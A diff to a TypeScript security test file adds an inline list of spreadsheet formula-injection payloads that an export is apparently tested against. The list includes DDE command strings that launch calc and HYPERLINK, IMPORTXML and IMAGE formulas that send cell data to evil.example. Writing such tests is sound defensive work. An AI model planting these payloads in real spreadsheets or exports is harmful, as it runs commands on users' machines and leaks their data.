@@ -2,7 +2,29 @@ import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { startWorld, type World } from "#tests/security/access-world.ts";
 import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
-import { dangerousCells, dangerousLinks } from "#tests/security/injection-payloads.ts";
+import { dangerousLinks } from "#tests/security/injection-payloads.ts";
+
+/** Beginnings that one spreadsheet program or another runs. */
+const dangerousCells: readonly string[] = [
+  "=1+1",
+  '=HYPERLINK("https://evil.example?"&A1)',
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "@evil",
+  '=IMPORTXML("https://evil.example")',
+  '=IMAGE("https://evil.example")',
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+  "==1",
+  '="a";="b"',
+  "=1,=2",
+];
 
 let world: World;
 beforeAll(async () => {
